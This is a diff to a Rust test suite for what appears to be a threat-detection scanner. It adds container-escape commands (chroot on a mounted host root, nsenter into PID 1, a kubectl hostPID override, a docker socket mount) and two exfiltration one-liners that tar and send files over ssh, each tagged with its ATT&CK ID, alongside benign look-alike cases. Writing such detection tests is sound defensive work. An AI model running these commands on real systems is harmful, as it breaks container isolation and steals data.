@@ -446,6 +446,41 @@ fn behaviour_is_recognised_with_its_technique() {
             "T1124",
         ),
         ("net time \\\\dc01", "time-discovery", "T1124"),
+        (
+            "docker run -v /:/mnt --rm -it alpine chroot /mnt /bin/sh",
+            "container-escape",
+            "T1611",
+        ),
+        (
+            "docker run --rm -it --privileged -u root alpine\nmount /dev/sda1 /mnt/\nchroot /mnt /bin/bash",
+            "container-escape",
+            "T1611",
+        ),
+        (
+            "nsenter -t 1 -m -u -i -n -p -- /bin/bash",
+            "container-escape",
+            "T1611",
+        ),
+        (
+            r#"kubectl run x --rm -ti --image alpine --overrides '{"spec":{"hostPID":true,"containers":[{"name":"x","image":"alpine","command":["nsenter","--mount=/proc/1/ns/mnt","--","/bin/sh"]}]}}'"#,
+            "container-escape",
+            "T1611",
+        ),
+        (
+            "docker run -it -v /var/run/docker.sock:/var/run/docker.sock docker:cli sh",
+            "host-mounted-in-container",
+            "T1611",
+        ),
+        (
+            "tar czpf - /Users/* | openssl des3 -salt -pass x | ssh u@203.0.113.9 'cat > /tmp/u.enc'",
+            "exfiltration",
+            "T1048",
+        ),
+        (
+            r#"ssh target.example.com "(cd /etc && tar -zcvf - *)" > ./etc.tar.gz"#,
+            "exfiltration",
+            "T1048",
+        ),
     ];
     for (text, id, technique) in cases {
         let hits = s.scan([*text]);
@@ -519,6 +554,17 @@ fn administration_that_looks_alike_is_not_named() {
             "setuid-shell",
         ),
         ("aws iam list-users", "cloud-account-created"),
+        ("nsenter -t 1234 --mount ls /", "container-escape"),
+        ("docker run --privileged -d docker:dind", "container-escape"),
+        (
+            "docker run -v /srv/data:/data -it alpine sh",
+            "host-mounted-in-container",
+        ),
+        ("docker run -v /:/host:ro node-exporter", "container-escape"),
+        (
+            "tar czf backup.tgz /etc && ls -l backup.tgz",
+            "exfiltration",
+        ),
         (
             "az ad user show --id ann@example.com",
             "cloud-account-created",
